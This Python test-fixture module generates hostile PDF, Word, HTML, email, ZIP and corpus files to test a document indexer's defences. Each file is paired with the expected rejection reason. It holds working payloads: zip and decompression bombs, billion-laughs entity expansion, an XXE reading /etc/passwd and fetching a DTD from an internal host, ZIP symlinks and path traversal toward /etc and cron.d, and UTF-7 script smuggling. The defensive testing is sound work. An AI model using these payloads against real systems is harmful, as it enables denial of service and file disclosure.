"""Files made to harm whoever reads them, by name: the ending, the bytes, and what the reader's reason has to say."""

import base64
import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from pypdf import PdfReader, PdfWriter

from tests.index.made_files import W, bomb, column, docx, paragraph, pdf, pdf_of, zipped

SECRET = "root:"
"""How /etc/passwd begins: no file may bring it into an article."""


@dataclass(frozen=True)
class Hostile:
    ending: str
    make: Callable[[], bytes]
    says: str | None = None
    """A regular expression for the reason; None: it may be read too, if it comes to nothing worse."""


# --- PDF ------------------------------------------------------------------------------------------------------------

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
ONE_PAGE = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"


def drawn(
    content: bytes, filters: bytes, font: bytes = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
) -> bytes:
    """A PDF of one page with this content stream."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    stream = b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(content), filters, content)
    return pdf_of([CATALOG, ONE_PAGE, page, stream, font])


def locked(algorithm: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf([column(["It opens in March."])]))))
    writer.encrypt("a password nobody has", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def wide_cmap() -> bytes:
    """A font whose table maps four thousand million codes."""
    cmap = b"begincmap 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange endcmap"
    objects = [
        CATALOG,
        ONE_PAGE,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length 24 >>\nstream\nBT /F1 9 Tf (words) Tj ET\nendstream",
        b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 6 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(cmap), cmap),
    ]
    return pdf_of(objects)


def packed_often(times: int) -> bytes:
    data = b"BT (a) Tj ET " * 1000
    for _ in range(times):
        data = zlib.compress(data)
    return drawn(data, b"[" + b"/FlateDecode " * times + b"]")


PDFS = {
    "pdf: empty": Hostile(".pdf", lambda: b"", "damaged|empty"),
    "pdf: only its header": Hostile(".pdf", lambda: b"%PDF-1.7\n", "damaged"),
    "pdf: cut in the middle": Hostile(".pdf", lambda: pdf([column(["Words and words."])] * 40)[:2000], None),
    "pdf: locked, RC4": Hostile(".pdf", lambda: locked("RC4-128"), "password"),
    "pdf: a million pages": Hostile(
        ".pdf",
        lambda: pdf_of(
            [
                CATALOG,
                b"<< /Type /Pages /Count 1000000 /Kids [%s] >>" % (b"3 0 R " * 1_000_000),
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
            ]
        ),
        "pages|damaged|longer|memory",
    ),
    "pdf: its pages lead to themselves": Hostile(
        ".pdf", lambda: pdf_of([CATALOG, b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>"]), "circle|damaged|no text"
    ),
    "pdf: its trailer leads to itself": Hostile(
        ".pdf", lambda: b"%PDF-1.7\nxref\n0 0\ntrailer << /Prev 9 /Root 1 0 R >>\nstartxref\n9\n%%EOF", "damaged"
    ),
    "pdf: a table of a thousand million objects": Hostile(
        ".pdf",
        lambda: b"%PDF-1.7\nxref\n0 1000000000\ntrailer << /Size 1000000000 /Root 1 0 R >>\nstartxref\n9\n%%EOF",
        "damaged|longer|memory",
    ),
    "pdf: a page of 100 MB": Hostile(
        ".pdf", lambda: drawn(zlib.compress(b"BT (a) Tj ET " * 8_000_000), b"/FlateDecode"), "damaged|memory|longer"
    ),
    "pdf: packed thirty times": Hostile(".pdf", lambda: packed_often(30), None),
    "pdf: dictionaries 50,000 deep": Hostile(
        ".pdf", lambda: pdf_of([b"<< /Type /Catalog /Pages " + b"<< /A " * 50_000 + b">> " * 50_000 + b">>"]), ""
    ),
    "pdf: a font of four thousand million letters": Hostile(".pdf", wide_cmap, None),
    "pdf: numbers without end": Hostile(".pdf", lambda: pdf_of([b"<< /A %s /Pages 2 0 R >>" % (b"9" * 500_000)]), ""),
    "pdf: a ZIP behind its head": Hostile(".pdf", lambda: b"%PDF-1.7\n" + zipped({"a.txt": b"Words."}), "damaged"),
}

# --- Word, and XML in general ---------------------------------------------------------------------------------------

START = f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>'.encode()
END = b"</w:t></w:r></w:p></w:body></w:document>"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha ha ha ha ha ha ha ha">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)
QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"ha " * 30_000}">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://10.0.0.1/x.dtd"> %b;]>'
PAGE = "<html><head><title>T</title></head><body><article><p>{}</p></article></body></html>"


def core(title: str, doctype: str = "") -> str:
    space = 'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:c="urn:c"'
    return f"{doctype}<c:coreProperties {space}><dc:title>{title}</dc:title></c:coreProperties>"


def with_flag(data: bytes, flag: int) -> bytes:
    """A ZIP whose files all say this of themselves (1: protected by a password)."""
    out = bytearray(data)
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := out.find(signature, at + 1)) >= 0:
            out[at + place] |= flag
    return bytes(out)


def with_method(data: bytes, method: int) -> bytes:
    out = bytearray(data)
    for signature, place in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = -1
        while (at := out.find(signature, at + 1)) >= 0:
            out[at + place : at + place + 2] = struct.pack("<H", method)
    return bytes(out)


def large_core() -> bytes:
    """A Word file with an article, and properties of 200 MB."""
    data = io.BytesIO(bomb("docProps/core.xml", 200, b"<a>", b"</a>", b"<b>b</b> "))
    with zipfile.ZipFile(data, "a") as archive:
        archive.writestr("word/document.xml", START + b"Words of the article." + END)
    return data.getvalue()


WORDS = {
    "docx: 110 MB of text": Hostile(
        ".docx", lambda: bomb("word/document.xml", 110, START, END, b"words "), "MB|damaged"
    ),
    "docx: paragraphs without end": Hostile(
        ".docx", lambda: bomb("word/document.xml", 8, START, END, b"<w:p>"), "damaged|deep|memory"
    ),
    "docx: properties of 200 MB": Hostile(".docx", large_core, None),
    "docx: entities that multiply": Hostile(".docx", lambda: docx(paragraph("Words &j;"), LAUGHS), None),
    "docx: one entity many times": Hostile(".docx", lambda: docx(paragraph("&a;" * 30_000), QUADRATIC), None),
    "docx: entities from outside": Hostile(".docx", lambda: docx(paragraph("Words &a;"), OUTSIDE), None),
    "docx: entities in its properties": Hostile(
        ".docx", lambda: docx(paragraph("Words."), core=core("&j;&a;", LAUGHS)), None
    ),
    "docx: no document": Hostile(".docx", lambda: zipped({"a.txt": b"words"}), "no document"),
    "docx: cut in the middle": Hostile(".docx", lambda: docx(paragraph("Words " * 9000))[:-60], "opened"),
    "docx: protected": Hostile(".docx", lambda: with_flag(docx(paragraph("Words.")), 1), "opened|password"),
    "docx: packed in an unknown way": Hostile(".docx", lambda: with_method(docx(paragraph("W.")), 98), "opened"),
    "docx: tables within tables": Hostile(
        ".docx", lambda: docx("<w:tbl><w:tr><w:tc>" * 5000 + "</w:tc></w:tr></w:tbl>" * 5000), ""
    ),
}

# --- HTML, text -----------------------------------------------------------------------------------------------------

HTML = {
    "html: empty": Hostile(".html", lambda: b"", "empty"),
    "html: 100,000 deep": Hostile(".html", lambda: b"<div>" * 100_000 + b"words and words", None),
    "html: tables 5,000 deep": Hostile(".html", lambda: b"<table><tr><td>" * 5000 + b"words and words", None),
    "html: one line of 9 MB": Hostile(".html", lambda: PAGE.format("x" * 9_000_000).encode(), None),
    "html: 9 MB of <": Hostile(".html", lambda: b"<" * 9_000_000, None),
    "html: comments that never end": Hostile(".html", lambda: b"<!-- " * 500_000 + b"words", None),
    "html: a million attributes": Hostile(
        ".html", lambda: b"<p " + b" ".join(b"a%d=1" % n for n in range(500_000)) + b">words and words", None
    ),
    "html: references without end": Hostile(".html", lambda: PAGE.format("&amp" * 1_000_000).encode(), None),
    "html: JSON-LD 100,000 deep": Hostile(
        ".html",
        lambda: (
            b'<script type="application/ld+json">'
            + b"[" * 100_000
            + b"</script>"
            + PAGE.format("Words. " * 40).encode()
        ),
        None,
    ),
    "html: JSON-LD with a number of a million digits": Hostile(
        ".html",
        lambda: (
            b'<script type="application/ld+json">{"datePublished": '
            + b"9" * 1_000_000
            + b"}</script>"
            + PAGE.format("Words. " * 40).encode()
        ),
        None,
    ),
    "html: entities that multiply": Hostile(".xhtml", lambda: (LAUGHS + PAGE.format("Words &j;")).encode(), None),
    "html: entities from outside": Hostile(".xhtml", lambda: (OUTSIDE + PAGE.format("Words &a;")).encode(), None),
    "html: UTF-16 that breaks off": Hostile(".html", lambda: PAGE.format("Words").encode("utf-16") + b"\xd8", "utf-16"),
    "html: UTF-7 it claims to be": Hostile(
        ".html", lambda: b"<meta charset=utf-7>" + PAGE.format("+ADw-script+AD4- words " * 9).encode(), None
    ),
    "html: a code that is none": Hostile(
        ".html", lambda: b"<meta charset=zlib_codec>" + PAGE.format("W " * 99).encode(), None
    ),
    "html: lone surrogates": Hostile(
        ".html", lambda: PAGE.format("Words &#xd800;&#xdfff; ").encode() + b"\xed\xa0\x80\xed\xbf\xbf", None
    ),
    "html: directions that turn": Hostile(".html", lambda: PAGE.format("\u202e\u2066 sdrow " * 99_999).encode(), None),
    "html: nothing but zero widths": Hostile(".html", lambda: PAGE.format("\u200b\u2060\ufeff" * 500_000).encode(), ""),
    "html: NULs": Hostile(".html", lambda: b"\0" * 5_000_000, ""),
    "html: a picture that is a page": Hostile(".html", lambda: b"GIF89a/*" + PAGE.format("Words.").encode(), None),
    "html: a PDF by its first bytes": Hostile(".html", lambda: b"%PDF-1.7" + PAGE.format("W.").encode(), "a PDF"),
    "text: 11 MB": Hostile(".txt", lambda: b"words " * 1_900_000, "MB"),
    "text: nothing but white space": Hostile(".txt", lambda: b" \n\t" * 900_000, "empty"),
    "text: noise": Hostile(".txt", lambda: bytes(range(256)) * 9000, ""),
    "text: combining marks without end": Hostile(".txt", lambda: ("Words a" + "\u0301" * 2_000_000).encode(), None),
    "text: a front matter of 5 MB": Hostile(".md", lambda: b"---\ntitle: " + b"x" * 5_000_000 + b"\n---\nWords.", None),
    "text: a front matter without end": Hostile(".md", lambda: b"---\n" + b"a: b\n" * 900_000, None),
    "markdown: brackets": Hostile(".md", lambda: b"words " + b"[" * 50_000 + b" words", None),
    "markdown: quotes 50,000 deep": Hostile(".md", lambda: b">" * 50_000 + b" words", None),
    "markdown: emphasis": Hostile(".md", lambda: b"words " + b"*a_" * 20_000, None),
    "markdown: a table of a million cells": Hostile(
        ".md", lambda: b"|a" * 1000 + b"\n" + b"|-" * 1000 + (b"\n" + b"|b" * 1000) * 900, None
    ),
}

# --- mail, saved pages ----------------------------------------------------------------------------------------------

MIXED = b"Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"


def attached(name: str, data: bytes) -> bytes:
    packed = base64.encodebytes(data)
    head = (
        f'Content-Type: application/octet-stream; name="{name}"\r\nContent-Disposition: attachment; filename="{name}"'
    )
    part = head.encode() + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + packed
    return MIXED + b"--b\r\n\r\nWords of the mail.\r\n--b\r\n" + part + b"\r\n--b--\r\n"


def within(mails: int) -> bytes:
    return b"Subject: x\r\nContent-Type: message/rfc822\r\n\r\n" * mails + b"Subject: y\r\n\r\nWords.\r\n"


def in_parts(parts: int) -> bytes:
    deep = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(parts))
    return b"Subject: x\r\n" + deep + b"\r\nwords\r\n"


def said_to_be(charset: bytes, body: bytes) -> bytes:
    return b"Subject: x\r\nContent-Type: text/plain; charset=" + charset + b"\r\n\r\n" + body


MAILS = {
    "mail: empty": Hostile(".eml", lambda: b"", "no mail"),
    "mail: 20,000 parts": Hostile(".eml", lambda: MIXED + b"--b\r\n\r\nwords\r\n" * 20_000 + b"--b--\r\n", None),
    "mail: parts 5,000 deep": Hostile(".eml", lambda: in_parts(5000), None),
    "mail: mails 500 deep": Hostile(".eml", lambda: within(500), None),
    "mail: a Word file of 110 MB in it": Hostile(
        ".eml", lambda: attached("a.docx", bomb("word/document.xml", 110, START, END, b"words ")), None
    ),
    "mail: a ZIP in it": Hostile(".eml", lambda: attached("a.zip", bomb("a.txt", 50)), None),
    "mail: an attachment that names a folder": Hostile(
        ".eml", lambda: attached("../../../etc/cron.d/x.txt", b"W."), None
    ),
    "mail: a subject of 5 MB": Hostile(".eml", lambda: b"Subject: " + b"x" * 5_000_000 + b"\r\n\r\nWords.", None),
    "mail: words in code without end": Hostile(
        ".eml", lambda: b"Subject: " + b"=?utf-8?q?a?= " * 20_000 + b"\r\n\r\nWords.", None
    ),
    "mail: a sender in 20,000 brackets": Hostile(
        ".eml", lambda: b"From: " + b"(" * 20_000 + b"\r\nSubject: x\r\n\r\nWords.", None
    ),
    "mail: a date that is none": Hostile(
        ".eml", lambda: b"Subject: x\r\nDate: Mon, 99 Foo 99999999999 99:99:99 +9999999\r\n\r\nWords.", None
    ),
    "mail: in punycode": Hostile(".eml", lambda: said_to_be(b"punycode", b"a-" + b"9" * 400_000), None),
    "mail: in a code that unpacks": Hostile(".eml", lambda: said_to_be(b"zip", zlib.compress(b"w " * 9_000_000)), None),
    "mail: in escapes": Hostile(".eml", lambda: said_to_be(b"unicode_escape", rb"Words \ud800 \x41 \N{DASH}"), None),
    "saved page: no page": Hostile(".mhtml", lambda: MIXED + b"--b\r\n\r\nwords\r\n--b--\r\n", "no page"),
    "saved page: 5,000 deep": Hostile(".mht", lambda: in_parts(5000), ""),
}

# --- ZIP, corpora ---------------------------------------------------------------------------------------------------


def symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("link.txt")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def overlapping(entries: int) -> bytes:
    """Many names for one and the same 50 MB: a flat bomb."""
    one = bomb("a000000.txt", 50, filler=b"words ")
    directory = one.index(b"PK\x01\x02")
    end = one.rindex(b"PK\x05\x06")
    entry = one[directory:end]
    named = b"".join(entry.replace(b"a000000.txt", b"a%06d.txt" % number) for number in range(entries))
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries, len(named), directory, 0)
    return one[:directory] + named + tail


def many_large(files: int) -> bytes:
    """Files that are each within their limit, and together far too much."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(files):
            archive.writestr(f"{number}.txt", b"")
    data = bytearray(out.getvalue())
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 24 : at + 28] = struct.pack("<L", 50_000_000)
    return bytes(data)


def nested(levels: int) -> bytes:
    data = bomb("a.txt", 50)
    for level in range(levels):
        data = zipped({f"{level}.zip": data})
    return data


def line(fields: bytes) -> bytes:
    return b'{"_id": "a", "text": "Words of a.", ' + fields + b'}\n{"_id": "b", "text": "Words of b."}\n'


ZIPS = {
    "zip: empty": Hostile(".zip", lambda: b"", "no ZIP"),
    "zip: nested": Hostile(".zip", lambda: nested(9), "ZIP within"),
    "zip: flat, 5,000 names for 50 MB": Hostile(".zip", lambda: overlapping(5000), "GB"),
    "zip: 500 files of 50 MB": Hostile(".zip", lambda: many_large(500), "GB"),
    "zip: 30,000 files": Hostile(".zip", lambda: zipped({f"{n}.txt": b"" for n in range(30_000)}), "30,000 files"),
    "zip: a link out of it": Hostile(".zip", symlink, None),
    "zip: absolute and climbing names": Hostile(
        ".zip", lambda: zipped({"/etc/passwd.txt": b"Words.", "../../x.txt": b"Words.", "C:\\x.txt": b"Words."}), None
    ),
    "zip: a device's name": Hostile(".zip", lambda: zipped({"CON.txt": b"Words.", "a\x01b.txt": b"Words."}), None),
    "zip: protected": Hostile(".zip", lambda: with_flag(zipped({"a.txt": b"Words."}), 1), "password"),
    "zip: cut in the middle": Hostile(".zip", lambda: zipped({"a.txt": b"Words." * 9999})[:-30], "no ZIP"),
    "zip: packed in an unknown way": Hostile(".zip", lambda: with_method(zipped({"a.txt": b"W."}), 99), "unknown way"),
    "zip: damaged within": Hostile(
        ".zip", lambda: zipped({"a.txt": b"Words."}).replace(b"PK\x03\x04", b"PK\x03\x05", 1), "damaged"
    ),
    "corpus: a number of 5,000 digits": Hostile(
        ".jsonl", lambda: line(b'"metadata": {"date": ' + b"9" * 5000 + b"}"), None
    ),
    "corpus: an id of 5,000 digits": Hostile(
        ".jsonl", lambda: b'{"_id": ' + b"9" * 5000 + b', "text": "Words."}\n', "BEIR"
    ),
    "corpus: 100,000 deep": Hostile(".jsonl", lambda: line(b'"metadata": ' + b"[" * 100_000), "BEIR"),
    "corpus: lone surrogates": Hostile(".jsonl", lambda: line(rb'"title": "\ud800"'), None),
    "corpus: a packed line of 400 MB": Hostile(
        ".jsonl.gz", lambda: b"".join(gzip.compress(bytes(100_000_000)) for _ in range(4)), "MB"
    ),
    "corpus: ten million empty lines": Hostile(".jsonl.gz", lambda: gzip.compress(b"\n" * 10_000_000), "in a row"),
    "corpus: a million lines that are none": Hostile(
        ".jsonl.gz", lambda: gzip.compress(b"{}\n" * 1_000_000), "in a row"
    ),
    "corpus: breaks off": Hostile(
        ".jsonl.gz", lambda: gzip.compress(line(b'"title": "x"') * 999)[:-20], "further|BEIR"
    ),
}

HOSTILE: Mapping[str, Hostile] = {**PDFS, **WORDS, **HTML, **MAILS, **ZIPS}
